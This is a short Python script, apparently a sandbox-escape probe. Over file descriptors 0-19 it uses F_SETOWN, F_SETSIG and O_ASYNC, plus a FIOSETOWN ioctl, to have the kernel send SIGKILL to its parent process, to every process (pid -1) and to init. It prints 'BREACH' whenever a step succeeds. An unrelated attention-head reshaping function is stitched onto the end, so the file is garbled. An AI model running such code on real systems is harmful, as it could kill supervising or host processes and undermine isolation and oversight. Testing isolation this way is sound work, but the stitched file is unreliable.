"""Has the kernel send SIGKILL to its parent when one of the pipes becomes ready (F_SETOWN, F_SETSIG, O_ASYNC)."""

import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
targets = [pid for pid in (os.getppid(), -1, 1) if pid]
print("TRIED", flush=True)
for descriptor in range(20):
    for target in targets:
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, target)
            fcntl.fcntl(descriptor, fcntl.F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
            print("BREACH", descriptor, target)
        except OSError:
            pass
        owner = ctypes.c_int(target)
        if libc.ioctl(descriptor, 0x8901, ctypes.byref(owner)) == 0:
            print("BREACH", "FIOSETOWN", descriptor)


def split_heads(x, num_heads):
    batch, seq_len, d_model = x.shape
    return x.reshape(batch, seq_len, num_heads, d_model // num_heads).swapaxes(1, 2)
